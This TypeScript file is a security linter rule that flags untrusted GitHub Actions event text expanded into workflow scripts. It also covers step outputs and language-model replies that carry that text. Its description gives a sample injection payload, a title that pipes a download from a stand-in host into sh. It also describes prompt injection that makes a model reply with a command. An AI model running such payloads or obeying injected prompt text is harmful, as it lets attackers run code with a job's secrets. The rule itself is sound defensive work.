import type { Rule } from '../../../src/model/rule.js';
import { get, isMap, str, type DataMap } from '../../../src/parsers/data/tree.js';
import { actionRepo, envLookup, stepFixed, expressionsIn, GHA_STANDARDS, HARDENING, runnerLabels, sourceLines, stepEvents, stepHosts, steps, untrustedRefs, usesOf, type EnvLookup, type Job, type Workflow } from './workflow.js';

/**
 * Inputs of well-known actions that run their value as code (a shell command, a script, an
 * expression), by action repository (lower case): `${{ }}` expanded into them is as dangerous as in
 * `run:`. From each action's documented inputs (action.yml).
 */
const CODE_INPUTS: ReadonlyMap<string, readonly string[]> = new Map([
  ['actions/github-script', ['script']],
  ['mikefarah/yq', ['cmd']],
  ['addnab/docker-run-action', ['run']],
  ['appleboy/ssh-action', ['script']],
  ['azure/cli', ['inlinescript']],
  ['azure/powershell', ['inlinescript']],
  ['nick-fields/retry', ['command']],
  ['nick-invision/retry', ['command']],
  ['wandalen/wretry.action', ['command']],
  ['jannekem/run-python-script-action', ['script']],
  ['amadevus/pwsh-script', ['script']],
  ['cardinalby/js-eval-action', ['expression']],
]);

/**
 * A line of a `run:` script that writes one step output whose whole value is a single variable or
 * expression, unchanged: `echo "NAME=$VAR" >> "$GITHUB_OUTPUT"`, `echo NAME=${{ … }} >> $GITHUB_OUTPUT`,
 * or the older `echo "::set-output name=NAME::$VAR"`. Groups: output name, then the value.
 */
const OUTPUT_WRITE = [
  /^\s*echo\s+(?:-[neE]+\s+)?(["']?)([\w-]+)=(\$\{\{[^}]*\}\}|\$\{?[A-Za-z_]\w*\}?)\1\s*>>\s*(["']?)\$\{?GITHUB_OUTPUT\}?\4\s*$/,
  /^\s*echo\s+(["']?)::set-output name=([\w-]+)::(\$\{\{[^}]*\}\}|\$\{?[A-Za-z_]\w*\}?)\1\s*$/,
];

/**
 * Actions that send a prompt to a language model and return its reply as a step output, by action
 * repository (lower case): the prompt inputs, then the output holding the reply (from each action's
 * action.yml). A prompt that includes attacker-controlled text lets that text steer the reply
 * (prompt injection), so the reply is as untrusted as the text itself.
 */
const MODEL_ACTIONS: ReadonlyMap<string, { prompts: readonly string[]; reply: string }> = new Map([
  ['actions/ai-inference', { prompts: ['prompt', 'system-prompt'], reply: 'response' }],
]);

/**
 * The step outputs of a job that hold attacker-controlled text as it came (`steps.ID.outputs.NAME`
 * → context), from steps before `before`: written by a bash script straight from an `env:` variable
 * bound to such a context, or from the context itself. A value passed through any command or
 * parameter expansion is not followed (it may have been cleaned). `$VAR` is read as a shell variable
 * only where the script runs in bash or sh: an explicit `shell:`, or no `shell:` on a job whose
 * runners are not Windows (where the default shell is PowerShell).
 */
function untrustedOutputs(text: string, wf: Workflow, job: Job): Map<string, { source: string; step: number; model?: true }> {
  const out = new Map<string, { source: string; step: number; model?: true }>();
  const all = steps(job);
  const labels = runnerLabels(job)?.labels ?? [];
  const jobShell = str(get(get(get(job.node, 'defaults'), 'run'), 'shell')) ?? str(get(get(get(wf.root, 'defaults'), 'run'), 'shell'));
  all.forEach((step, index) => {
    const id = str(get(step, 'id'))?.trim();
    const run = get(step, 'run');
    const model = MODEL_ACTIONS.get(actionRepo(usesOf(step) ?? '') ?? '');
    const withs = get(step, 'with');
    if (id && model && isMap(withs)) {
      const events = stepEvents(wf, job, step);
      const env = envLookup(text, wf, job, step, events);
      for (const e of withs.entries) {
        if (!model.prompts.includes(String(e.key.value).toLowerCase()) || str(e.value) === undefined) continue;
        const source = expressionsIn(text, e.value).map((ex) => untrustedRefs(ex.body, env, events, stepFixed(wf, job, step))[0]).find(Boolean);
        if (source) {
          out.set(`${id}.${model.reply}`.toLowerCase(), { source: source.replace(/^\S+ \(= (.+)\)$/, '$1'), step: index, model: true });
          break;
        }
      }
    }
    if (!id || !run) return;
    const shell = (str(get(step, 'shell')) ?? jobShell)?.trim().toLowerCase();
    const posix = shell ? /^(bash|sh)\b/.test(shell) : labels.length > 0 && !labels.some((l) => l.includes('windows') || l.includes('${{'));
    const events = stepEvents(wf, job, step);
    const env = envLookup(text, wf, job, step, events);
    for (const l of sourceLines(text, run)) {
      const m = OUTPUT_WRITE.map((re) => re.exec(l.line)).find(Boolean);
      if (!m) continue;
      const value = m[3];
      let source: string | undefined;
      if (value.startsWith('${{')) source = untrustedRefs(value.slice(3, -2), undefined, events, stepFixed(wf, job, step))[0];
      else if (posix && (m[1] === '"' || m[1] === '')) source = env(`env.${/\w+/.exec(value.slice(1))![0]}`);
      if (source) out.set(`${id}.${m[2]}`.toLowerCase(), { source, step: index });
    }
  });
  return out;
}

/** `env`, with the outputs of the job's earlier steps (than `step`) that hold untrusted text. */
function withOutputs(env: EnvLookup, outputs: Map<string, { source: string; step: number; model?: true }>, step: number): EnvLookup {
  return (path) => {
    const m = /^steps\.([\w-]+)\.outputs\.([\w-]+)$/i.exec(path);
    if (!m) return env(path);
    const o = outputs.get(`${m[1]}.${m[2]}`.toLowerCase());
    return o && o.step < step ? o.source : undefined;
  };
}

/** Attacker-controlled event text expanded by `${{ }}` into a shell script, a github-script body or another action input run as code. */
const rule: Rule = {
  meta: {
    id: 'iac/gha-template-injection',
    title: 'Untrusted input expanded into a workflow script',
    description:
      'GitHub expands `${{ }}` expressions into a `run:` script (or an input that an action runs as code: an `actions/github-script` body, `mikefarah/yq` `cmd`, `appleboy/ssh-action` `script`, `azure/cli` `inlineScript` and the like) before the shell or Node sees it. When the expression holds text an outside contributor controls (an issue or pull request title or body, a comment, a branch name, a commit message, an author e-mail), that text becomes code: a title such as `"; curl evil | sh; "` runs with the job\'s token and secrets. Passing the value through `env:` and reading it as a quoted shell variable keeps it data. A context only counts where one of the events the step can run on fills it (the workflow\'s triggers, narrowed by a job or step `if:` on `github.event_name`, unless text around its `${{ }}` makes that condition always true): `github.head_ref` in a push-only workflow is empty; a reusable workflow (`workflow_call`) runs with any caller\'s event. The previous title or body of an `edited` event (`github.event.changes.title.from`, `.body.from`) and the fork\'s repository fields (`head.repo.description`, `head.repo.homepage`) count as attacker-controlled. A `workflow_run` trigger whose `branches:` filter names only literal branches (`[main, release-2.x]`, no glob or `branches-ignore`) pins `github.event.workflow_run.head_branch` to one of those names, so it is not reported there. Nor is the text of an event object whose author a job or step `if:` pins (with `&&`, no `||` or negation): `github.event.pull_request.user.login == \'release-bot\'` (the pull request\'s fields and `github.head_ref`), or `github.event.comment.author_association == \'MEMBER\'` and `contains(fromJSON(\'["OWNER","MEMBER"]\'), …)` over OWNER, MEMBER and COLLABORATOR only; other objects of the same event (a comment on a pull request whose author is checked) still count. A step output that an earlier step of the job wrote unchanged from such a context (`echo "title=$TITLE" >> "$GITHUB_OUTPUT"` in bash, with `TITLE: ${{ github.event.pull_request.title }}` in its `env:`, or the context itself) carries it to a later `${{ steps.ID.outputs.title }}`; an output passed through any command or parameter expansion first may have been cleaned and is not followed. The reply of a language-model step (`actions/ai-inference` `response`) whose `prompt` or `system-prompt` includes such a context counts too: the text can instruct the model to answer with a command. A composite action\'s steps (`runs.using: composite` in an `action.yml`) are checked the same way: the action runs on whatever event its caller\'s workflow has, so every attacker-controlled context counts, as in a reusable workflow; its own `inputs.*` are for the calling workflow to keep clean, as a reusable workflow\'s are, and are not reported.',
    severity: 'high',
    kinds: ['github-workflow', 'github-action'],
    messages: {
      run: '`{{expression}}` expands attacker-controlled `{{context}}` straight into a `run:` script (code injection); pass it through `env:` (e.g. `env: VALUE: ${{ {{context}} }}`) and use `"$VALUE"` in the script.',
      env: '`{{expression}}` re-expands `{{variable}}`, which holds attacker-controlled `{{context}}`, into the script (code injection); read it as a shell variable (`"$VAR"`) or `process.env.VAR`, never as `${{ env.VAR }}`.',
      script: '`{{expression}}` expands attacker-controlled `{{context}}` into the `actions/github-script` code (code injection); pass it through `env:` and read `process.env.VALUE` instead.',
      output:
        '`{{expression}}` expands `{{variable}}`, a step output an earlier step wrote straight from attacker-controlled `{{context}}`, into the script (code injection); pass it through `env:` (`env: VALUE: ${{ {{variable}} }}`) and read it as a quoted shell variable.',
      model:
        '`{{expression}}` expands `{{variable}}`, the reply of a language model whose prompt includes attacker-controlled `{{context}}` (a crafted text can make it reply with any command), into the script (code injection); pass it through `env:` (`env: VALUE: ${{ {{variable}} }}`) and read it as a quoted shell variable.',
      matrix: '`{{expression}}` expands `{{variable}}`, a matrix value built from attacker-controlled `{{context}}`, into the script (code injection); pass it through `env:` and read it as a quoted shell variable, or build the matrix from trusted values.',
      input: '`{{expression}}` expands attacker-controlled `{{context}}` into the `{{input}}` input of `{{action}}`, which runs it as code (code injection); pass it through `env:` and read the variable inside the command instead.',
    },
    remediation:
      'Never interpolate untrusted context into code. Bind it to an environment variable (`env: TITLE: ${{ github.event.issue.title }}`) and reference the variable, double-quoted, in the script (`"$TITLE"`), or `process.env.TITLE` in github-script.',
    references: [
      `${HARDENING}#understanding-the-risk-of-script-injections`,
      'https://securitylab.github.com/resources/github-actions-untrusted-input/',
      'https://docs.zizmor.sh/audits/#template-injection',
    ],
    standards: { ...GHA_STANDARDS, cwe: ['CWE-78', 'CWE-94'] },
    equivalents: { zizmor: ['template-injection'], checkov: ['CKV_GHA_2'], actionlint: ['expression'], octoscan: ['expression-injection'], scorecard: ['Dangerous-Workflow'], semgrep: ['yaml.github-actions.security.run-shell-injection.run-shell-injection'], codeql: ['actions/code-injection/critical', 'actions/code-injection/medium'] },
    security: true,
    since: '0.1.0',
  },
  check(ctx) {
    const text = ctx.file.text;
    for (const { wf, job } of stepHosts(ctx)) {
      const outputs = untrustedOutputs(text, wf, job);
      steps(job).forEach((step: DataMap, index: number) => {
        const events = stepEvents(wf, job, step);
        const env = withOutputs(envLookup(text, wf, job, step, events), outputs, index);
        const run = get(step, 'run');
        const uses = usesOf(step);
        const targets: { node: typeof run; messageId: string; input?: string; action?: string }[] = [];
        if (run) targets.push({ node: run, messageId: 'run' });
        const action = uses ? actionRepo(uses) : undefined;
        const codeInputs = action ? CODE_INPUTS.get(action) : undefined;
        const withs = get(step, 'with');
        if (codeInputs && isMap(withs)) {
          // input names are case-insensitive
          for (const e of withs.entries) {
            const input = String(e.key.value);
            if (!codeInputs.includes(input.toLowerCase())) continue;
            targets.push(action === 'actions/github-script' ? { node: e.value, messageId: 'script' } : { node: e.value, messageId: 'input', input, action: uses!.split('@')[0] });
          }
        }
        for (const t of targets) {
          if (!t.node || str(t.node) === undefined) continue;
          for (const ex of expressionsIn(text, t.node)) {
            const bad = untrustedRefs(ex.body, env, events, stepFixed(wf, job, step));
            if (!bad.length) continue;
            const expression = text.slice(ex.start, ex.end).replace(/\s+/g, ' ');
            const via = /^((env|matrix|steps)\.\S+) \(= (.+)\)$/.exec(bad[0]);
            const model = via?.[2] === 'steps' && outputs.get(via[1].replace(/^steps\.([\w-]+)\.outputs\.([\w-]+)$/i, '$1.$2').toLowerCase())?.model;
            ctx.report({
              messageId: via ? (via[2] === 'steps' ? (model ? 'model' : 'output') : via[2]) : t.messageId,
              offsets: [ex.start, ex.end],
              data: via ? { expression, variable: via[1], context: via[3] } : { expression, context: bad[0], ...(t.input ? { input: t.input, action: t.action! } : {}) },
            });
          }
        }
      });
    }
  },
};
export default rule;
